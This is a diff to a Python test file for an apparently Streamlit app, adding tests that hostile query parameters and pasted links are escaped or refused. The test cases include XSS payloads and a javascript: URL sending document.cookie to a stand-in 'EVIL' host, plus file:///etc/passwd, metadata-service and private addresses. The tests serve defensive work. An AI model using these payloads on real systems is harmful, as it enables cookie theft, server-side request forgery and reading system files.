@@ -169,13 +169,20 @@ def test_hostile_date_parameter_gets_one_escaped_warning(value, shown, words):
     assert not at.exception
 
 
-def test_other_parameters_are_ignored():
+def test_a_hostile_place_parameter_gets_one_escaped_warning_and_others_are_ignored():
     at = AppTest.from_file(APP, default_timeout=TIMEOUT)
     at.query_params["place"] = f"<img src=x onerror=alert(1)>[x](https://{EVIL})"
     at.query_params["embed_options"] = f"<script>{EVIL}</script>"
     at.run()
     assert_rendered_safely(at)
-    assert not messages(at, "warning")
+    (warning,) = messages(at, "warning")
+    assert "is not a place on the map" in warning.replace("\\", "")
+    assert "place" not in at.query_params  # dropped from the address: the link box names no place
+    assert not any("place=" in c.value for c in at.code)
+    at.query_params["place"] = "x" * 100_000  # long: refused on its length, quoted short
+    at.run()
+    (warning,) = messages(at, "warning")
+    assert len(warning) < 200 and not at.exception
 
 
 # --- pasted articles and their names --------------------------------------------------------------------------------
@@ -510,3 +517,47 @@ def test_corrupted_data_file_gets_one_located_message(data_copy, file, corrupt, 
     assert str(data_copy) not in plain and str(paths.ROOT) not in plain and "Traceback" not in plain
     at.run()  # still serving, with the same message
     assert not at.exception and len(messages(at, "error")) == 1
+
+
+# --- links ------------------------------------------------------------------------------------------------------------
+
+LINK_CASES = [
+    # (id, address, words of the one error); tests/test_links.py has every failure without the app.
+    ("javascript", f"javascript:fetch('https://{EVIL}/'+document.cookie)", "javascript: addresses are not read"),
+    ("file", "file:///etc/passwd", "file: addresses are not read"),
+    ("markdown-link", f"[Session expired](https://{EVIL}/login)", "not a web address"),
+    ("directive", f"https://{EVIL}/:red[x]:material/lock:", f"no such host: {EVIL}"),
+    ("metadata-service", "http://169.254.169.254/latest/meta-data/", "169.254.169.254 is a link-local address"),
+    ("private", "http://10.0.0.1/admin", "10.0.0.1 is a private address"),
+    ("blank", "   ", "Nothing to add"),
+]
+
+
+@pytest.mark.parametrize(("url", "words"), [c[1:] for c in LINK_CASES], ids=[c[0] for c in LINK_CASES])
+def test_a_hostile_link_gets_one_message(url, words):
+    at = open_sources()
+    at.text_input(key="link_url").input(url)
+    at.button(key="add_link_article").click().run()
+    assert_rendered_safely(at)
+    (error,) = messages(at, "error")
+    assert words in error.replace("\\", "").replace(WORD_JOINER, ""), error
+    assert not at.session_state["added_articles"] if "added_articles" in at.session_state else True
+
+
+def test_the_app_refuses_a_page_served_from_this_machine():
+    """A saved page served on 127.0.0.1 (tests/test_links.py's server) is refused by the app, which has no way to
+    allow private hosts; the server is never asked."""
+    from tests.test_links import REUTERS, serve
+
+    server = serve("127.0.0.1")
+    try:
+        at = open_sources()
+        at.text_input(key="link_url").input(server.url(f"/pages/{REUTERS}"))
+        at.button(key="add_link_article").click().run()
+        assert_rendered_safely(at)
+        (error,) = messages(at, "error")
+        assert "refused: 127.0.0.1 is a loopback address" in error.replace("\\", "")
+        assert server.seen == []
+    finally:
+        server.shutdown()
+        server.server_close()
